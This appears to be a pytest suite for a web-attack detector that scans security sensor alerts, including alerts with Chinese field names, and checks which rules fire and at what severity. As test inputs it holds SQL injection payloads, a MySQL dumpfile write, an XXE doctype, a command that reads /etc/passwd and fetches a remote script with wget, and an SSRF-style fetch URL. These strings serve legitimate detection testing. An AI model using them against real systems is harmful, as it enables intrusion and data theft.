"""Requests and answers in alerts of sensors: found by what fields are called, in plain however they were captured."""

import base64
import json

import pytest

from schemas import Alert, Field, Severity
from secassist.detectors.web_attack import PLUGIN


def alert(**fields: str) -> Alert:
    return Alert(source="json", fields=tuple(Field(path=path, value=value) for path, value in fields.items()))


def rules(**fields: str) -> set[str]:
    return {signal.rule for signal in PLUGIN.detect(alert(**fields)).signals}


INJECTED = "id=7' and updatexml(1,concat(0x7e,(select user())),1)-- "
PACKET = f"POST /goods HTTP/1.1\r\nHost: shop.example\r\n\r\n{INJECTED}"


@pytest.mark.parametrize(
    "fields",
    [
        {"请求体": INJECTED},
        {"req_body": INJECTED},
        {"请求方法": "GET", "URL": "/goods?" + INJECTED},
        {"status": "200", "url": "/goods?" + INJECTED},
        {"攻击载荷": INJECTED},
        {"请求报文": PACKET},
        {"packet_data": base64.b64encode(PACKET.encode()).decode()},
        {"原始请求": PACKET.replace("\r\n", "\\r\\n")},
        {"pcap_base64": base64.b64encode(PACKET.encode()).decode()},
        {"raw": f'date=2026-01-01 attack="SQL" url="/goods?{INJECTED}" action=dropped'},
        {"message": f"告警 URL=/goods?{INJECTED.strip().replace(' ', '+')} 动作=放行"},
        {"req_header": "Host: shop.example\nX-Api: 1\n\n" + INJECTED},
        {"日志原文": f'198.51.100.9 - - "GET /goods?{INJECTED.strip().replace(" ", "+")} HTTP/1.1" 200 512'},
    ],
    ids=lambda fields: next(iter(fields)),
)
def test_an_injection_is_seen_wherever_a_sensor_puts_it(fields: dict[str, str]):
    assert "web:sqli" in rules(**fields)


def test_a_link_outside_web_records_is_no_request():
    assert rules(url="https://wiki.example/.git/HEAD", 说明="文档链接") == set()


def test_the_line_is_that_of_the_field():
    fields = {"告警名称": "注入", "请求报文": PACKET}
    (signal,) = [one for one in PLUGIN.detect(alert(**fields)).signals if one.rule == "web:sqli"]
    assert signal.lines == (5,)  # the title's line, then request line, host and blank line of the request


@pytest.mark.parametrize(
    ("answer", "rule", "severity"),
    [
        ("uid=33(www-data) gid=33(www-data)", "web:ran", Severity.HIGH),
        ("nt authority\\system", "web:ran", Severity.HIGH),
        ("<html>root:x:0:0:root:/root:/bin/bash", "web:read", Severity.HIGH),
        ("XPATH syntax error: '~shop@localhost'", "web:choked", Severity.MEDIUM),
        ("java.sql.SQLException: ORA-00933: SQL command not properly ended", "web:choked", Severity.MEDIUM),
    ],
)
@pytest.mark.parametrize("name", ["响应体", "rsp_body", "回显"])
def test_an_answer_gives_an_attack_away(name: str, answer: str, rule: str, severity: Severity):
    (signal,) = PLUGIN.detect(alert(**{name: answer})).signals
    assert (signal.rule, signal.severity) == (rule, severity)
    assert answer[6:20].lower() in signal.decoded.lower()


@pytest.mark.parametrize(
    "answer",
    ['{"code":0,"data":[{"user":"root","roles":["admin"]}]}', "<p>The root of the tree</p>", "total 3 items", "OK"],
)
def test_an_ordinary_answer_says_nothing(answer: str):
    assert rules(响应体=answer) == set()


REPORT = "select region, sum(amount) from sales where day > '2026-02-01' group by region union all select 1, 2"
PAGE = "<h2>Disk</h2><pre>df -h; cat /etc/passwd | wc -l; wget -q http://yum.example/check.sh</pre><p>Write it down</p>"
PREVIEW = f'{{"sql": "{REPORT}"}}'
SIGN_IN = "/cas/login?service=http%3A%2F%2F10.20.5.22%3A8080%2Foa%2Fcallback%3Furl%3Dhttp%3A%2F%2F10.20.5.22%2Fmain"


@pytest.mark.parametrize(
    "fields",
    [
        {"请求体": PREVIEW},
        {"请求体": json.dumps({"body": {"storage": {"value": PAGE}}})},
        {"请求方法": "GET", "URL": SIGN_IN},
    ],
    ids=["a report", "a page", "a sign-in"],
)
def test_what_is_at_home_weighs_little(fields: dict[str, str]):
    found = PLUGIN.detect(alert(**fields)).signals
    assert found
    assert {signal.severity for signal in found} == {Severity.LOW}


@pytest.mark.parametrize(
    "fields",
    [
        {"请求体": PREVIEW.replace("select 1, 2", "select 1, sleep(5)")},
        {"请求体": json.dumps({"cmd": "1; cat /etc/passwd | wc -l; wget -q http://yum.example/check.sh"})},
        {"请求方法": "GET", "URL": SIGN_IN.replace("/cas/login", "/fetch")},
    ],
    ids=["a report that waits", "a command", "a fetch"],
)
def test_the_same_elsewhere_weighs_much(fields: dict[str, str]):
    assert Severity.HIGH in {signal.severity for signal in PLUGIN.detect(alert(**fields)).signals}


def test_a_browser_that_says_how_it_asks_attacks_nobody():
    assert "web:xss" not in rules(请求头="Host: a.example\nX-Requested-With: XMLHttpRequest")


@pytest.mark.parametrize(("host", "grave"), [("xml.cxml.org/cXML.dtd", False), ("198.51.100.7/x.dtd", True)])
def test_a_known_definition_of_documents_is_no_external_entity(host: str, grave: bool):
    body = f'<?xml version="1.0"?><!DOCTYPE cXML SYSTEM "http://{host}"><cXML><Header/></cXML>'
    assert ("web:xxe" in rules(请求体=body)) is grave


def test_what_a_request_quotes_of_answers_is_no_answer():
    assert "web:ran" not in rules(请求体="text=uid=33(www-data) gid=33(www-data)")


@pytest.mark.parametrize(
    "fields",
    [
        {"SQL语句": "select unhex('7f454c46') into dumpfile '/usr/lib/mysql/plugin/a.so'"},
        {"httpRequest.httpMethod": "GET", "httpRequest.args": "q=1' union select user(),2-- "},
        {"requestHead": "Cookie: a=1\nX-Api: ' union select user(),2-- "},
    ],
    ids=["a statement", "arguments", "headers"],
)
def test_statements_arguments_and_headers_are_read_for_what_they_are(fields: dict[str, str]):
    assert "web:sqli" in rules(**fields)


def test_a_sentence_about_a_request_breaks_no_rule_of_requests():
    assert rules(note="POST /webhooks/stripe evt_test payloads only") == set()


@pytest.mark.parametrize(
    ("target", "odd"),
    [
        ("/autodiscover/autodiscover.json/v1.0/li@a.example", False),
        ("/autodiscover/autodiscover.json?@b.example", True),
    ],
)
def test_a_mail_client_that_looks_for_its_server_is_no_probe(target: str, odd: bool):
    assert ("web:sensitive-file" in rules(请求方法="GET", URL=target)) is odd
